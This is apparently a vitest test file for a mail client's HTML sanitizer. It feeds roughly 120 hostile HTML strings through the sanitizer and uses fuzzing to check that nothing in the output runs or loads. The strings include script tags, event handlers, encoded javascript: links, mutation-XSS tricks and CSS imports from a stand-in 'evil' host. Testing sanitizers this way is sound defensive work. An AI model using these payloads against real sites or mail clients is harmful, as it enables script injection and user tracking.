import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { safeHtml } from '#mailhold/mail/safe-html.js'

const pixel = 'data:image/png;base64,AAAA'
const options = { cidImages: new Map([['logo@x', pixel]]), remoteImages: false }
const safe = (html: string) => safeHtml(html, options)

/** Reads the result with another parser and lists everything that acts or loads. */
function dangers(html: string): string[] {
  const found: string[] = []
  let css = ''
  let inStyle = false
  const forbidden =
    /^(?:script|iframe|frame|frameset|object|embed|applet|base|meta|link|form|input|button|textarea|select|svg|math|template|video|audio|noscript|animate|set|foreignobject|title|xmp|plaintext|noembed|noframes|portal)$/
  const parser = new Parser({
    onopentag(name, attributes) {
      if (forbidden.test(name)) found.push(`<${name}>`)
      inStyle = name === 'style'
      for (const [key, value] of Object.entries(attributes)) {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them
        const plain = value.replace(/[\x00-\x20]/g, '')
        if (/^on|^srcset$|^srcdoc$|^action$|^formaction$|^ping$|^xlink|^data$|^poster$/.test(key))
          found.push(key)
        if (key === 'style') css += `${value}\n`
        if (key === 'href' && !/^(?:https?:|mailto:|tel:|#)/i.test(plain)) found.push(`href ${value}`)
        if ((key === 'src' || key === 'background') && !plain.startsWith('data:image/'))
          found.push(`${key} ${value}`)
        if (/^data:(?!image\/(?:png|jpe?g|gif|webp);)/i.test(plain)) found.push(`data ${value}`)
      }
    },
    ontext(text) {
      if (inStyle) css += text
    },
    onclosetag(name) {
      if (name === 'style') inStyle = false
    },
  })
  parser.end(html)
  const acting = css.match(
    /@import|expression\s*\(|-moz-binding|behavior\s*:|javascript:|vbscript:|image-set\s*\(|\\|url\((?!"data:image)/gi,
  )
  return [...found, ...(acting ?? [])]
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil/x.js></SCRIPT>',
  '<script\n>alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=//evil/x>',
  '<script>',
  '<</script>script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="http://evil/1 1x">',
  '<img src=http://evil/p.gif>',
  '<img src=//evil/p.gif>',
  '<img src="\\\\evil\\p.gif">',
  '<img src=" \thttp://evil/p.gif">',
  '<img src=cid:missing>',
  '<img src=ftp://evil/p.gif>',
  '<img lowsrc=http://evil dynsrc=http://evil>',
  '<body onload=alert(1)>',
  '<body background="http://evil/p.gif">',
  '<body background="javascript:alert(1)">',
  '<table background="//evil/p.gif"><td background=http://evil/2>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:http://x">x</a>',
  '<a href="//evil">x</a>',
  '<a href="x" ping="http://evil">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<area href="javascript:alert(1)">',
  '<base href="http://evil/">',
  '<meta http-equiv=refresh content="0;url=http://evil">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<link rel=stylesheet href=http://evil/x.css>',
  '<link rel=prefetch href=http://evil>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="http://evil"></frameset>',
  '<object data="http://evil/x.swf"></object>',
  '<object><param name=src value=javascript:alert(1)><embed src=http://evil></object>',
  '<embed src="http://evil/x.swf">',
  '<applet code=Evil></applet>',
  '<form action="http://evil"><input name=a><button>go</button></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><script>alert(1)</script>',
  '<select><option><script>alert(1)</script></select>',
  '<isindex action=javascript:alert(1) type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg/><script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=http://evil src=http://evil></video>',
  '<audio src=http://evil onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<portal src=http://evil>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE html [<!ENTITY x "y">]><script>alert(1)</script>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="<script>alert(1)</script>">',
  "<p title='\"><script>alert(1)</script>'>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<style>@import "http://evil/x.css";</style>',
  '<style>@im\\port "http://evil/x.css";</style>',
  '<style>@\\69mport url(http://evil)</style>',
  '<style>@im@import;port "http://evil";</style>',
  '<style>p{background:url(http://evil/p.gif)}</style>',
  '<style>p{background:u\\72l(http://evil/p.gif)}</style>',
  '<style>p{background:\\75\\72\\6c(http://evil/p.gif)}</style>',
  '<style>p{background:url(//evil/p.gif</style>',
  '<style>p{background:url("http://evil/\\")(http://evil")}</style>',
  '<style>p{width:expression(alert(1))}</style>',
  '<style>p{width:exp/**/ression(alert(1))}</style>',
  '<style>p{-moz-binding:url(http://evil/x.xml#a)}</style>',
  '<style>p{behavior:url(x.htc)}</style>',
  '<style>@font-face{font-family:x;src:url(http://evil/f.woff)}</style>',
  '<style>p{background:image-set("http://evil/1" 1x)}</style>',
  '<style>p{background:-webkit-image-set(url(http://evil) 1x)}</style>',
  '<style></style><script>alert(1)</script>',
  '<style>\\3c/style>\\3cscript>alert(1)</style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<p style="background:url(javascript:alert(1))">',
  '<p style="background:url(&#104;ttp://evil)">',
  '<p style="x:expression(alert(1))">',
  '<p style=\'background:url("http://evil")\'>',
  '<p style="background:url(data:text/html,x)">',
  '<p style="list-style:url(http://evil)" onclick=alert(1)>',
]

describe('hostile HTML', () => {
  test.each(payloads)('%s leaves nothing that acts or loads', (payload) => {
    expect(dangers(safe(payload).html)).toEqual([])
    expect(dangers(safe(`<div><p>before ${payload} after</p></div>`).html)).toEqual([])
  })

  test('of any pieces leaves nothing that acts or loads, and is safe again', () => {
    const piece = fc.constantFrom(
      ...payloads,
      '<',
      '>',
      '"',
      "'",
      '`',
      '</',
      '<!--',
      '-->',
      '&lt;',
      '&#60;',
      '=',
      ' ',
      '\0',
      '<style>',
      '</style>',
      'url(',
      '\\',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = safe(pieces.join('')).html
        expect(dangers(once)).toEqual([])
        expect(dangers(safe(once).html)).toEqual([])
      }),
      { numRuns: 1000 },
    )
  })

  test('nested very deeply takes no long time', () => {
    const started = performance.now()

    safe('<div>'.repeat(300_000))
    safe('<svg>'.repeat(300_000))
    safe('<style>url('.repeat(200_000))

    expect(performance.now() - started).toBeLessThan(2000)
  })
})

describe('ordinary HTML', () => {
  test('keeps its layout', () => {
    const html =
      '<table width="600" cellpadding="0" style="color:#333;padding:4px"><tbody><tr><td align="center" bgcolor="#fff">Hi &amp; bye</td></tr></tbody></table>'
    expect(safe(html).html).toBe(html)
  })

  test('keeps its style sheet', () => {
    expect(safe('<style media="screen">p > a { color: red }</style>').html).toBe(
      '<style media="screen">p > a { color: red }</style>',
    )
  })

  test('opens its links elsewhere', () => {
    expect(safe('<a href="https://e.com/?a=1&amp;b=2">x</a>').html).toBe(
      '<a href="https://e.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  test('shows images of the mail itself', () => {
    expect(safe('<img src="cid:logo@x" alt="L"><img src="CID:logo%40x">').html).toBe(
      `<img src="${pixel}" alt="L"><img src="${pixel}">`,
    )
  })

  test('counts remote images that it leaves out', () => {
    const html = '<img src="http://e.com/1.png"><p style="background:url(https://e.com/2.png)">'

    expect(safe(html)).toEqual({ html: '<img><p style="background:none">', remoteBlocked: 2 })
    expect(safeHtml(html, { ...options, remoteImages: true })).toEqual({
      html: '<img src="http://e.com/1.png"><p style="background:url(&quot;https://e.com/2.png&quot;)">',
      remoteBlocked: 0,
    })
  })
})

describe('the scheme of a view', () => {
  const css =
    '<style>:root{color-scheme: light dark}@media (prefers-color-scheme: dark){p{color:red}}@media (PREFERS-COLOR-SCHEME:light){p{color:blue}}</style>'
  const inDark = { ...options, scheme: 'dark' } as const

  test('makes the media queries of the wanted scheme hold, and the others not', () => {
    expect(safeHtml(css, inDark).html).toBe(
      '<style>:root{color-scheme: dark}@media (min-width: 0){p{color:red}}@media (max-width: 0){p{color:blue}}</style>',
    )
    expect(safeHtml('<style media="(prefers-color-scheme: dark)">p{}</style>', inDark).html).toBe(
      '<style media="(min-width: 0)">p{}</style>',
    )
  })

  test('leaves text alone, and everything while none is wanted', () => {
    expect(safeHtml('<p>prefers-color-scheme: dark</p>', inDark).html).toBe(
      '<p>prefers-color-scheme: dark</p>',
    )
    expect(safe(css).html).toContain('prefers-color-scheme: dark')
  })
})
